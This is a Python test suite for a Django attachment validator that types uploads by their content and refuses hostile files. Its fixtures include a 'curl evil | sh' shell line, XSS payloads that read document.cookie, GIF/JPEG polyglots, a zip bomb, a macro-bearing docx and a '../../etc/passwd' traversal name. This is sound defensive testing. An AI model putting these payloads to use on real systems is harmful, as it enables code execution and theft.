"""The one attachment policy (by content) and the one store, against hostile files."""

import io
import zipfile

import pytest
from django.core.files.storage import storages
from django.core.files.uploadedfile import SimpleUploadedFile

from services import attachments
from services.actions.attachments import attach
from services.attachments import RESIDENT_FORM_TYPES, Refused, check, check_upload
from tests.apply.conftest import EXE, PDF, PNG
from tests.factories import make_case

JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\x11" * 200
TIFF = b"II*\x00\x08\x00\x00\x00" + b"\x00" * 64
GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04" + b"\x00" * 30


def _zip(*members: tuple[str, bytes | str], method=zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, content in members:
            archive.writestr(name, content)
    return buffer.getvalue()


DOCX = _zip(("[Content_Types].xml", "<Types/>"), ("word/document.xml", "<w:document/>"))
XLSX = _zip(("[Content_Types].xml", "<Types/>"), ("xl/workbook.xml", "<workbook/>"))
ODT = _zip(("mimetype", attachments.ODT), ("content.xml", "<office:document-content/>"))


@pytest.mark.parametrize(
    ("content", "name", "content_type", "stored_as"),
    [
        (PDF, "letter.exe", "application/pdf", "letter.pdf"),  # a PDF renamed .exe
        (PNG, "scan.pdf", "image/png", "scan.png"),
        (JPEG, "IMG_0042", "image/jpeg", "IMG_0042.jpg"),
        (TIFF, "fax-20260303.tif", "image/tiff", "fax-20260303.tif"),
        (GIF, "map.gif", "image/gif", "map.gif"),
        (DOCX, "objection.docx", attachments.DOCX, "objection.docx"),
        (XLSX, "rent.xls", attachments.XLSX, "rent.xlsx"),
        (ODT, "letter.odt", attachments.ODT, "letter.odt"),
        (b"Number 42, since Tuesday.\r\n", "notes.bat", "text/plain", "notes.txt"),
        (b"street,date\nHigh St,2026-03-03\n", "list.csv", "text/csv", "list.csv"),
        (b"BEGIN:VCALENDAR\r\nEND:VCALENDAR\r\n", "invite", "text/calendar", "invite.ics"),
        (
            b"From: a@example.com\nSubject: Fwd\nDate: x\n\nHi",
            "fwd.eml",
            "message/rfc822",
            "fwd.eml",
        ),
        (b"{\\rtf1\\ansi Hello}", "letter.doc", "application/rtf", "letter.rtf"),
    ],
)
def test_the_content_decides_the_type_and_the_extension(content, name, content_type, stored_as):
    accepted = check(content, name)
    assert accepted.content_type == content_type
    assert accepted.filename == stored_as
    assert accepted.content == content and accepted.size == len(content)


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (EXE, "evidence.pdf"),  # an .exe renamed .pdf
        (b"MZ", "noextension"),
        (b"\x7fELF\x02\x01\x01" + b"\x00" * 50, "photo.jpg"),
        (b"#!/bin/sh\ncurl evil | sh\n", "notes.txt"),
        (b"<html><body><script>alert(1)</script></body></html>", "photo.png"),  # HTML as a PNG
        (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>', "logo.svg"),
        (b"<svg onload=alert(1)>", "logo.png"),
        (b"see javascript:alert(document.cookie)", "link.txt"),
        (_zip(("invoice.exe", EXE)), "invoice.zip"),  # a plain zip
        (_zip(("a.txt", "hello")), "report.docx"),  # a zip that calls itself a document
        (b"PK\x03\x04" + b"\x00" * 100, "archive.png"),  # a broken zip
        (_zip(("[Content_Types].xml", "<Types/>"), ("word/document.xml", "A" * 30_000_000)), "big.docx"),
        (_zip(("[Content_Types].xml", "<T/>"), ("word/document.xml", "x"), ("word/vbaProject.bin", "x")), "m.docx"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 500, "setup.doc"),  # an OLE file, not Word
        (b"{\\rtf1{\\object\\objemb{\\objdata 0102}}}", "letter.rtf"),  # RTF carrying an object
        (bytes(range(256)) * 4, "data.pdf"),  # noise
    ],
    ids=[
        "exe-as-pdf", "bare-MZ", "elf", "shell-script", "html-as-png", "svg", "svg-script",
        "javascript-url", "zip", "zip-as-docx", "broken-zip", "zip-bomb", "docx-with-macros",
        "ole-not-office", "rtf-object", "noise",
    ],
)  # fmt: skip
def test_hostile_content_is_refused_whatever_it_is_called(content, name):
    with pytest.raises(Refused) as refused:
        check(content, name)
    assert refused.value.code == "type"


@pytest.mark.parametrize(
    "content",
    [
        b"GIF89a/*\x00\x00\x00*/=1;<script>alert(1)</script>",  # a GIF that is also a script
        JPEG + _zip(("Evil.class", b"\xca\xfe\xba\xbe")),  # a JPEG with a JAR appended
        b"%PDF-1.4\n<html><body>a PDF a browser would render</body></html>",
    ],
    ids=["gif-script", "jpeg-jar", "pdf-html"],
)
def test_a_polyglot_is_refused(content):
    with pytest.raises(Refused) as refused:
        check(content, "picture.gif")
    assert refused.value.code == "type"


def test_zero_bytes_are_refused_as_empty():
    with pytest.raises(Refused) as refused:
        check(b"", "empty.pdf")
    assert refused.value.code == "empty"
    assert refused.value.messages == ["The selected file is empty."]


def test_the_size_limit_is_one_setting(settings):
    settings.PORTAL_UPLOAD_MAX_BYTES = 1000
    check(PDF + b"0" * (1000 - len(PDF)), "ok.pdf")
    with pytest.raises(Refused) as refused:
        check(PDF + b"0" * 1000, "big.pdf")
    assert refused.value.code == "too_big"
    assert "smaller than 1000" in refused.value.messages[0]
    # A channel with its own documented limit passes it.
    assert check(PDF + b"0" * 1000, "big.pdf", limit=2000).content_type == "application/pdf"


def test_an_oversized_upload_is_not_read_in_full(settings):
    settings.PORTAL_UPLOAD_MAX_BYTES = 1000
    upload = SimpleUploadedFile("big.pdf", PDF + b"0" * 5000, "application/pdf")
    with pytest.raises(Refused) as refused:
        check_upload(upload)
    assert refused.value.code == "too_big"


def test_a_residents_form_asks_for_photos_and_pdfs_and_says_so():
    check_upload(SimpleUploadedFile("id.jpg", PDF, "image/jpeg"), accept=RESIDENT_FORM_TYPES)
    for content in (DOCX, b"plain text", EXE):
        with pytest.raises(Refused) as refused:
            check(content, "x.pdf", accept=RESIDENT_FORM_TYPES)
        assert refused.value.messages == [
            "The selected file must be a PDF, JPG, PNG, HEIC or WEBP."
        ]


def test_stored_names_lose_paths_and_control_characters():
    assert check(PDF, "C:\\Users\\me\\..\\scan.pdf").filename == "scan.pdf"
    assert check(PDF, "../../etc/passwd").filename == "passwd.pdf"
    assert check(PDF, "\x00\x1b[31m.pdf").filename == "[31m.pdf"
    assert check(PDF, "").filename == "document.pdf"


@pytest.mark.django_db
def test_attach_stores_by_content_hash_in_private_storage():
    case = make_case()
    attachment = attach(check(PDF, "letter.exe"), case=case)
    attachment.refresh_from_db()
    assert attachment.case == case and attachment.filename == "letter.pdf"
    assert attachment.content_type == "application/pdf" and attachment.size == len(PDF)
    assert attachment.file.name.startswith("attachments/")
    assert attachment.sha256[:16] in attachment.file.name
    assert attachment.file.storage is storages["private"]
    with attachment.file.open("rb") as handle:
        assert handle.read() == PDF


@pytest.mark.django_db
def test_attach_checks_again_whatever_the_caller_passes():
    from services.actions import InboundAttachment
    from services.models import Attachment

    case = make_case()
    with pytest.raises(Refused):
        attach(InboundAttachment("photo.jpg", "image/jpeg", EXE), case=case)
    assert not Attachment.objects.exists()
    stored = attach(InboundAttachment("photo.jpg", "image/jpeg", PNG), case=case)
    assert stored.content_type == "image/png" and stored.filename == "photo.png"
